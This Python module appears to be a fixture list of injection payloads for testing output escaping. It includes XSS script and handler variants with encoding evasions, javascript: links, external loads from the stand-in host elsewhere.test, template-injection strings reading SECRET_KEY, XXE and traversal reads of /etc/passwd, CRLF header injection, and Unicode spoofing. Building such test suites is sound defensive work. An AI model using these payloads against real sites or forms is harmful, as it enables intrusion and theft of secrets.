"""Texts that somebody may type, or a file may bring, in the hope that a page, a mail or a print takes them for more than words.

Whatever runs sets ``pwned``; whatever fetches asks elsewhere.test; whatever reads a file or a setting shows a word that no page has otherwise.
"""

SCRIPTS = (
    "<script>pwned=1</script>",
    "<ScRiPt src=https://elsewhere.test/x.js></sCrIpT>",
    "</title></textarea></style></noscript><script>pwned=1</script>",
    "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<script\x0c>pwned=1</script\x0c>",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    '"><script>pwned=1</script>',
    "'><script>pwned=1</script>",
)
HANDLERS = (
    "<img src=x onerror=pwned=1>",
    '" onmouseover="pwned=1" x="',
    "' onfocus='pwned=1' autofocus x='",
    "x onload=pwned=1",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<a hx-get='https://elsewhere.test/' hx-trigger='load' hx-on::load='pwned=1'>x</a>",
)
LINKS = (
    "javascript:pwned=1",
    "<a href=javascript:pwned=1>x</a>",
    "[x](javascript:pwned=1)",
    "[x](JaVaScRiPt&colon;pwned=1)",
    "[x](data:text/html,<script>pwned=1</script>)",
    "[x][1]\n\n[1]: javascript:pwned=1",
    "![x](https://elsewhere.test/pixel.png)",
    "<https://elsewhere.test/> and https://elsewhere.test/",
    "<iframe src=https://elsewhere.test/></iframe>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.test/'>",
    "<base href=https://elsewhere.test/>",
    "<form action=https://elsewhere.test/><button>x</button></form>",
    "<object data=https://elsewhere.test/x></object><embed src=https://elsewhere.test/x>",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://elsewhere.test/x.css>",
    "<p style='background:url(https://elsewhere.test/x)'>x</p>",
    "</style><style>@import 'https://elsewhere.test/x.css';@page{size:1px}</style>",
    "url(https://elsewhere.test/x); } * { display: none",
)
DRAWINGS = (
    "<svg onload=pwned=1><script>pwned=1</script></svg>",
    "<svg><a xlink:href='javascript:pwned=1'><text y=20>x</text></a></svg>",
    "</text></svg><script>pwned=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<svg><use href='https://elsewhere.test/x.svg#x'/><foreignObject><body onload=pwned=1></foreignObject></svg>",
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "{% load i18n %}{{ request.user.password }}",
    "${7*7} #{7*7} <%= 7*7 %> {7*7}",
    "%(project)s %s %d %",
    '=HYPERLINK("https://elsewhere.test/","x")',
)
FILES = (
    "<link rel=attachment href=file:///etc/passwd>",
    "<img src=file:///etc/passwd>",
    "<xml><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x></xml>",
    "../../../../etc/passwd",
)
BREAKS = (
    "x\r\nBcc: everybody@elsewhere.test",
    "x\r\n\r\n<script>pwned=1</script>",
    "x\nSet-Cookie: pwned=1",
    "x%0d%0aLocation: https://elsewhere.test/",
    "x\u2028Content-Type: text/html\u2029",
)
SIGNS = (
    "\u202etxt.exe\u202c abc",
    "\u2066\u2067\u2068x\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0349lgo",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1f8\U0001f1ea",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d",
    'O\'Brien & S\u00f8n "A/S" <x@y.z>',
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *LINKS, *STYLES, *DRAWINGS, *TEMPLATES, *FILES, *BREAKS, *SIGNS)
